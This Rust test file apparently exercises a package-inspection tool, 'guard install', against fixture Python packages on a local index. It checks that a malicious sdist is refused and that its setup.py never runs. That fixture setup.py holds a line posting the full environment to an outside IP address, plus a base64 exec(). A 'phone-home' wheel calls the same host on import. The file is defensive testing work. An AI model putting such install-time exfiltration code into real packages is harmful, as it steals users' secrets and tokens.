//! `guard install` end to end (issue 6): a real virtualenv made with
//! `python3 -m venv`, the real pip, and a local index on 127.0.0.1 serving
//! fixture packages built here. Offline: the only file not built by the test
//! is the setuptools wheel that ships with Python (ensurepip), served as the
//! build dependency of the benign sdist.
//!
//! Fixtures: a benign wheel; a benign sdist whose PEP 517 build needs
//! setuptools (its in-tree backend imports it, so pip must install it offline
//! from the inspected files); a malicious-pattern sdist whose setup.py would
//! create a canary file; a wheel that the test policy makes `review`.
//! The review prompt runs under a real pseudo-terminal via util-linux `script`.

mod common;

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use common::{sdist, sha, wheel, Fault, Index};

struct Env {
    dir: tempfile::TempDir,
    index: Index,
    python: PathBuf,
    canary: PathBuf,
}

impl Env {
    fn project(&self) -> PathBuf {
        self.dir.path().join("project")
    }

    fn cache(&self) -> PathBuf {
        self.dir.path().join("cache")
    }

    fn audit(&self) -> PathBuf {
        self.dir.path().join("audit.jsonl")
    }

    /// The `guard install` command line (without the requirements).
    fn command(&self, extra: &[&str]) -> Command {
        let mut cmd = common::isolated_install(&self.index.url(), self.dir.path());
        cmd.current_dir(self.project())
            .arg("--python")
            .arg(&self.python)
            .arg("--cache-dir")
            .arg(self.cache())
            .args(["--timeout", "5"])
            .args(extra);
        cmd
    }

    fn guard(&self, args: &[&str]) -> Output {
        self.command(args).stdin(Stdio::null()).output().unwrap()
    }

    /// Runs guard under a pseudo-terminal (`script`), typing `answer`.
    fn guard_on_tty(&self, args: &[&str], answer: &str) -> (Option<i32>, String) {
        let cmd = self.command(args);
        let mut line = String::new();
        line.push_str(&shell_quote(cmd.get_program().to_str().unwrap()));
        for a in cmd.get_args() {
            line.push(' ');
            line.push_str(&shell_quote(a.to_str().unwrap()));
        }
        line.push_str("; echo \"guard-exit=$?\"");
        let mut script = Command::new("script");
        script.current_dir(self.project()).args(["-qec", &line, "/dev/null"]);
        for (k, v) in cmd.get_envs() {
            match v {
                Some(v) => script.env(k, v),
                None => script.env_remove(k),
            };
        }
        let mut child = script
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().unwrap();
            // Type the answer once the prompt is up; keep stdin open until guard exits.
            let answer = answer.to_string();
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_secs(4));
                let _ = stdin.write_all(answer.as_bytes());
                let _ = stdin.flush();
                std::thread::sleep(std::time::Duration::from_secs(60));
            });
        }
        let out = child.wait_with_output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let code = text.rsplit("guard-exit=").next().and_then(|s| s.trim().parse().ok());
        (code, text)
    }

    fn imports(&self, module: &str) -> bool {
        Command::new(&self.python)
            .args(["-c", &format!("import {module}")])
            .current_dir(self.dir.path())
            .status()
            .unwrap()
            .success()
    }
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

fn text(o: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The setuptools wheel bundled with the Python that runs the tests.
fn bundled_setuptools() -> PathBuf {
    let out = Command::new("python3")
        .args(["-c", "import ensurepip,os;print(os.path.dirname(ensurepip.__file__))"])
        .output()
        .unwrap();
    let dir = PathBuf::from(String::from_utf8(out.stdout).unwrap().trim()).join("_bundled");
    std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("setuptools-"))
        .expect("ensurepip bundles a setuptools wheel")
}

const BACKEND: &str = r#"import base64
import hashlib
import os
import zipfile

import setuptools  # the build environment must provide it (offline, from guard's files)

NAME = "benign_sdist"
DIST = NAME + "-1.0"


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    filename = DIST + "-py3-none-any.whl"
    files = {
        NAME + "/__init__.py": "VALUE = 2\nSETUPTOOLS = %r\n" % setuptools.__version__,
        DIST + ".dist-info/METADATA": "Metadata-Version: 2.1\nName: benign-sdist\nVersion: 1.0\n",
        DIST + ".dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: fixture\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    lines = []
    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as zf:
        for path, content in files.items():
            data = content.encode()
            zf.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            lines.append("%s,sha256=%s,%d" % (path, digest, len(data)))
        lines.append(DIST + ".dist-info/RECORD,,")
        zf.writestr(DIST + ".dist-info/RECORD", "\n".join(lines) + "\n")
    return filename
"#;

fn setup() -> Env {
    let dir = tempfile::tempdir().unwrap();
    let venv = dir.path().join("venv");
    let ok = Command::new("python3")
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .unwrap()
        .success();
    assert!(ok, "python3 -m venv failed");
    let python = venv.join("bin").join("python");
    let canary = dir.path().join("CANARY");
    let index = Index::start();

    index.add("benign-wheel", wheel("benign-wheel", "1.0", &[]), Fault::None);
    index.add(
        "benign-sdist",
        sdist(
            "benign-sdist",
            "1.0",
            &[
                (
                    "pyproject.toml",
                    "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_backend\"]\n\n[project]\nname = \"benign-sdist\"\nversion = \"1.0\"\ndependencies = []\n".into(),
                ),
                ("_backend/backend.py", BACKEND.into()),
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.2\nName: benign-sdist\nVersion: 1.0\n".into(),
                ),
            ],
        ),
        Fault::None,
    );
    let setup_py = format!(
        "import os, base64, urllib.request\nopen({:?}, 'w').write('setup.py ran')\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='evil-pkg', version='1.0')\n",
        canary.display().to_string()
    );
    index.add(
        "evil-pkg",
        sdist(
            "evil-pkg",
            "1.0",
            &[
                ("setup.py", setup_py),
                (
                    "pyproject.toml",
                    "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n".into(),
                ),
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n".into(),
                ),
            ],
        ),
        Fault::None,
    );
    // A wheel that phones home at import: `install-network`, raised to high by the test policy → review.
    let (name, bytes) = wheel_with("phone-home", "urllib.request.urlopen('http://198.51.100.7/ping')\n");
    index.add("phone-home", (name, bytes), Fault::None);

    let st = bundled_setuptools();
    let st_bytes = std::fs::read(&st).unwrap();
    let st_sha = sha(&st_bytes);
    index.add(
        "setuptools",
        (st.file_name().unwrap().to_string_lossy().into_owned(), st_bytes),
        Fault::None,
    );

    let project = dir.path().join("project");
    std::fs::create_dir(&project).unwrap();
    std::fs::write(
        project.join("guard.toml"),
        format!(
            "[rules]\nseverity = {{ \"install-network\" = \"high\" }}\n\n[[allow]]\nname = \"setuptools\"\nsha256 = \"{st_sha}\"\nreason = \"the build backend bundled with CPython\"\n"
        ),
    )
    .unwrap();
    Env {
        dir,
        index,
        python,
        canary,
    }
}

fn wheel_with(name: &str, body: &str) -> (String, Vec<u8>) {
    use std::io::Write;
    let dist = name.replace('-', "_");
    let filename = format!("{dist}-1.0-py3-none-any.whl");
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default();
        for (path, data) in [
            (format!("{dist}/__init__.py"), format!("import urllib.request\n{body}")),
            (
                format!("{dist}-1.0.dist-info/METADATA"),
                // Complete metadata, so that only the code decides the verdict.
                format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: fixture\nAuthor: Test\n"),
            ),
            (
                format!("{dist}-1.0.dist-info/WHEEL"),
                "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n".into(),
            ),
            (format!("{dist}-1.0.dist-info/RECORD"), String::new()),
        ] {
            zip.start_file(path, opts).unwrap();
            zip.write_all(data.as_bytes()).unwrap();
        }
        zip.finish().unwrap();
    }
    (filename, buf.into_inner())
}

fn installed(env: &Env, dist: &str) -> bool {
    let out = Command::new(&env.python)
        .args(["-m", "pip", "show", "-q", dist])
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .output()
        .unwrap();
    out.status.success()
}

fn audit_lines(env: &Env) -> Vec<serde_json::Value> {
    std::fs::read_to_string(env.audit())
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn benign_wheel_and_sdist_are_installed_offline_and_importable() {
    let env = setup();
    let out = env.guard(&["benign-wheel", "benign-sdist"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(env.imports("benign_wheel"), "{}", text(&out));
    assert!(env.imports("benign_sdist"), "{}", text(&out));
    // The sdist was built by the in-tree backend with the setuptools guard inspected.
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("allowed"), "{}", text(&out));
    let audit = audit_lines(&env);
    assert!(audit
        .iter()
        .any(|r| r["package"] == "setuptools" && r["decision"] == "approved"));
    assert!(audit.iter().all(|r| r["decision"] == "approved"), "{audit:?}");
}

#[test]
fn malicious_sdist_is_refused_without_a_tty_and_never_runs() {
    let env = setup();
    for extra in [&[][..], &["--yes"]] {
        let mut args = vec!["benign-wheel", "evil-pkg"];
        args.extend_from_slice(extra);
        let out = env.guard(&args);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("evil-pkg") && stdout.contains("DENY"), "{}", text(&out));
        assert!(stdout.contains("Nothing was installed."), "{}", text(&out));
        assert!(!env.canary.exists(), "setup.py ran");
        // All or nothing: the benign package asked for with it is not installed either.
        assert!(!installed(&env, "benign-wheel"), "{}", text(&out));
    }
    let audit = audit_lines(&env);
    assert!(audit
        .iter()
        .any(|r| r["package"] == "evil-pkg" && r["verdict"] == "deny" && r["decision"] == "refused"));
}

#[test]
fn review_without_tty_is_refused_and_yes_approves_it() {
    let env = setup();
    let out = env.guard(&["phone-home"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("REVIEW"),
        "{}",
        text(&out)
    );
    assert!(!installed(&env, "phone-home"));
    let out = env.guard(&["phone-home", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env, "phone-home"));
    let audit = audit_lines(&env);
    assert!(audit
        .iter()
        .any(|r| r["how"] == "non-interactive" && r["decision"] == "refused"));
    assert!(audit.iter().any(|r| r["how"] == "--yes" && r["decision"] == "approved"));
}

#[test]
fn review_is_asked_on_a_pseudo_terminal() {
    if Command::new("script").arg("--version").output().is_err() {
        eprintln!("skipped: util-linux `script` is not available");
        return;
    }
    let env = setup();
    let (code, screen) = env.guard_on_tty(&["phone-home"], "n");
    assert_eq!(code, Some(1), "{screen}");
    assert!(screen.contains("Install phone-home 1.0?"), "{screen}");
    assert!(
        screen.contains("install-network"),
        "findings shown before asking: {screen}"
    );
    assert!(!installed(&env, "phone-home"));
    let (code, screen) = env.guard_on_tty(&["phone-home"], "y");
    assert_eq!(code, Some(0), "{screen}");
    assert!(installed(&env, "phone-home"), "{screen}");
    let audit = audit_lines(&env);
    assert!(audit.iter().any(|r| r["how"] == "prompt" && r["decision"] == "refused"));
    assert!(audit
        .iter()
        .any(|r| r["how"] == "prompt" && r["decision"] == "approved"));
}

#[test]
fn hash_mismatch_stops_everything() {
    let env = setup();
    let (name, bytes) = wheel("tampered", "1.0", &[]);
    env.index
        .add_with_hash("tampered", (name, bytes), Fault::None, &"0".repeat(64));
    let out = env.guard(&["benign-wheel", "tampered"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!installed(&env, "benign-wheel"));
    assert!(!installed(&env, "tampered"));
}

#[test]
fn pip_environment_cannot_widen_the_handoff() {
    let env = setup();
    // PIP_REQUIREMENT would make pip install an extra, uninspected requirement;
    // PIP_FIND_LINKS (set globally on some machines) would add a directory. guard's
    // handoff removes PIP_* variables, so pip sees only guard's pinned files.
    let elsewhere = env.dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let extra = env.dir.path().join("extra-requirements.txt");
    std::fs::write(&extra, "evil-pkg\n").unwrap();
    let out = env
        .command(&["benign-wheel==1.0"])
        .env("PIP_FIND_LINKS", &elsewhere)
        .env("PIP_REQUIREMENT", &extra)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env, "benign-wheel"));
    assert!(!installed(&env, "evil-pkg"));
    assert!(!env.canary.exists());
}
